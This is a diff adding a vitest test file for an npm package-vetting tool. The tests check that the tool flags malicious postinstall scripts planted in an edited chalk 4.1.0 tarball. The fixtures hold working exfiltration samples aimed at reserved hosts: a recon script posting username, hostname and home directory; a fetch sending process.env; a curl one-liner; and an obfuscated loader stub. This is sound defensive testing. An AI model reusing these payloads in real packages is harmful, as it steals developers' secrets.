@@ -1,0 +1,89 @@
+/**
+ * Hostile world: the code an install script runs. Most malicious npm packages keep their
+ * command plain (`node install.js`, `node -e "require('./lib/setup')"`, `sh ./install.sh`) and put
+ * the payload in the file it runs: recon sent home (dependency-confusion probes), the
+ * environment posted to an address, obfuscated loaders. The shapes are those of DataDog's
+ * GuardDog corpus (fixtures/install-code/guarddog, fixtures/PROVENANCE.md), with hosts replaced
+ * by reserved names and documentation addresses. The world is chalk 4.1.0's, its tarball edited
+ * to carry the script (and the registry's manifest to name it, so the manifests agree).
+ */
+import { readFileSync } from 'node:fs';
+import zlib from 'node:zlib';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { checkOf, osvNoAdvisories } from '../cli/helpers.js';
+import { requireCli } from './support/cli.js';
+import { CLI_TEST_TIMEOUT_MS } from './support/expect.js';
+import { rawTar } from './support/hostile-tarballs.js';
+import { noteCases } from './support/metrics.js';
+import { closeWorlds, evaluate, version, vouchedFor } from './support/package-world.js';
+
+beforeAll(() => requireCli());
+afterAll(() => closeWorlds());
+
+/** chalk 4.1.0 whose tarball holds `files` and whose both manifests run `postinstall`. */
+function withInstallCode(postinstall: string, files: [path: string, content: string][]) {
+  const manifest = { name: 'chalk', version: '4.1.0', main: 'source', scripts: { postinstall } };
+  const tarball = zlib.gzipSync(
+    rawTar([
+      { path: 'package/package.json', type: '0', content: JSON.stringify(manifest) },
+      { path: 'package/source/index.js', type: '0', content: 'module.exports = {};\n' },
+      ...files.map(([path, content]) => ({ path: `package/${path}`, type: '0' as const, content })),
+    ]),
+  );
+  return vouchedFor(tarball, (packument) => {
+    const release = version(packument);
+    release.scripts = { postinstall };
+    release.hasInstallScript = true;
+  });
+}
+
+const RECON = [
+  "const os = require('os'), https = require('https'), querystring = require('querystring');",
+  "const td = { p: require('./package.json').name, c: __dirname, hd: os.homedir(), hn: os.hostname(), un: os.userInfo().username, dns: require('dns').getServers() };",
+  'const postData = querystring.stringify({ msg: JSON.stringify(td) });',
+  "const req = https.request({ hostname: 'example.oastify.com', port: 443, path: '/', method: 'POST', headers: { 'Content-Type': 'application/x-www-form-urlencoded', 'Content-Length': postData.length } }, (res) => res.on('data', () => {}));",
+  "req.on('error', () => {}); req.write(postData); req.end();",
+].join('\n');
+
+const ENV_TO_ADDRESS = "fetch('http://203.0.113.50/collect', { method: 'POST', body: JSON.stringify(process.env) }).catch(() => {});";
+
+const OBFUSCATED = `const _0x5a1f=['\\x68\\x74\\x74\\x70'];(function(_0x2d8f05,_0x4b81bb){const _0x4d74cb=function(_0x32719f){while(--_0x32719f){_0x2d8f05['push'](_0x2d8f05['shift']());}};_0x4d74cb(++_0x4b81bb);}(_0x5a1f,0x1a3));const _0x4d74=function(_0x2d8f05,_0x4b81bb){_0x2d8f05=_0x2d8f05-0x0;let _0x4d74cb=_0x5a1f[_0x2d8f05];return _0x4d74cb;};console.log(_0x4d74('0x0'));`;
+
+describe('the code an install script runs', () => {
+  it.concurrent.for([
+    ['recon posted to a request catcher (node install.js)', 'node install.js', [['install.js', RECON]], ['beacon', 'exfiltration']],
+    ['the environment posted to an address, two modules down (node -e require)', `node -e "try{require('./lib/setup')}catch(e){}"`, [['lib/setup.js', "require('./telemetry');"], ['lib/telemetry.js', ENV_TO_ADDRESS]], ['exfiltration']],
+    ['a shell script that sends who and where', 'sh ./install.sh', [['install.sh', '#!/bin/sh\ncurl -s -d "$(whoami)@$(hostname):$(pwd)" https://collector.example/p >/dev/null 2>&1\n']], ['exfiltration']],
+    ['an honest install.js replaced by a later entry of the same path', 'node install.js', [['install.js', 'console.log("thanks")'], ['install.js', RECON]], ['beacon', 'exfiltration']],
+  ] as const)('%s: 0, capped at 49.9, the gate fails', { timeout: CLI_TEST_TIMEOUT_MS }, async ([label, postinstall, files, findings], { task, expect }) => {
+    noteCases(task);
+    const { run, report, sandbox } = await evaluate(task, label, { ...withInstallCode(postinstall, files.map(([p, c]) => [p, c])), osv: osvNoAdvisories });
+    sandbox.remove();
+    const check = checkOf(report, 'install-scripts');
+    expect(check).toMatchObject({ score: 0, messageId: 'code-dangerous' });
+    expect(String(check?.evidence?.findings).split(', ').sort()).toEqual([...findings].sort());
+    expect(report.caps.map((c) => c.id)).toContain('install-code');
+    expect(report.score).toBeLessThanOrEqual(49.9);
+    expect(report.verdictCode).not.toBe('yes');
+    expect(run.code).toBe(1);
+  });
+
+  it.concurrent('an obfuscated install script holds the verdict without a cap', { timeout: CLI_TEST_TIMEOUT_MS }, async ({ task, expect }) => {
+    noteCases(task);
+    const { report, sandbox } = await evaluate(task, 'obfuscated', { ...withInstallCode('node install.js', [['install.js', OBFUSCATED]]), osv: osvNoAdvisories });
+    sandbox.remove();
+    expect(checkOf(report, 'install-scripts')).toMatchObject({ score: 10, messageId: 'code-suspicious' });
+    expect(report.caps.map((c) => c.id)).not.toContain('install-code');
+    expect(report.verdictCode).not.toBe('yes');
+  });
+
+  it.concurrent("esbuild's real install.js (a binary downloader) is an ordinary install script (the control)", { timeout: CLI_TEST_TIMEOUT_MS }, async ({ task, expect }) => {
+    noteCases(task);
+    const esbuild = readFileSync(new URL('../../fixtures/install-code/benign/esbuild@0.28.2/install.js', import.meta.url), 'utf8');
+    const { report, sandbox } = await evaluate(task, 'esbuild control', { ...withInstallCode('node install.js', [['install.js', esbuild]]), osv: osvNoAdvisories });
+    sandbox.remove();
+    expect(checkOf(report, 'install-scripts')).toMatchObject({ score: 30, messageId: 'scripts' });
+    expect(checkOf(report, 'install-scripts')?.evidence?.code).toEqual(['install.js']);
+    expect(report.caps.map((c) => c.id)).not.toContain('install-code');
+  });
+});
